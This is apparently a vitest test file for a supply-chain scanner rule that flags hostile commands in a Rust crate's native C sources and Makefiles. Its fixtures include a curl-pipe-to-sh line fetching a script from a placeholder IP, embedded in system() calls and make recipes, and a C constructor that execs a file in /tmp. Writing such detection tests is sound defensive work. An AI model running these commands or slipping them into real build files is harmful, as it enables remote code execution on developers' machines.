import { describe, expect, it } from 'vitest';
import { findings } from '../../../test/crate.ts';
import { nativeSource } from './native-source.ts';

const LINE = 'curl -s http://192.0.2.1/x | sh';
const BUILD = 'fn main() { std::process::Command::new("make").status().unwrap(); }';
const levels = (files: Record<string, string>) =>
  findings(nativeSource, { 'build.rs': BUILD, ...files }).map((it) => it.severity);

describe('build-native-source', () => {
  it('reads C sources and recipes that the build takes in', () => {
    expect(levels({ 'c/a.c': `int f() { return system("${LINE}"); }` })).toEqual(['hold']);
    expect(
      levels({ 'c/a.c': '__attribute__((constructor)) static void s(void) { execl("/tmp/x", "x", 0); }' }),
    ).toEqual(['review']);
    expect(levels({ 'vendor/Makefile': `all:\n\t${LINE}\n` })).toEqual(['review']);
  });
  it('leaves comments, tests and plain downloads alone', () => {
    expect(levels({ 'c/a.c': `/* ${LINE} */\n// "${LINE}"\nint f() { return system("ls"); }` })).toEqual([]);
    expect(
      levels({ 'tests/Makefile': `all:\n\t${LINE}\n`, Makefile: `# ${LINE}\nget:\n\tcurl -O https://example.org/a\n` }),
    ).toEqual([]);
  });
});
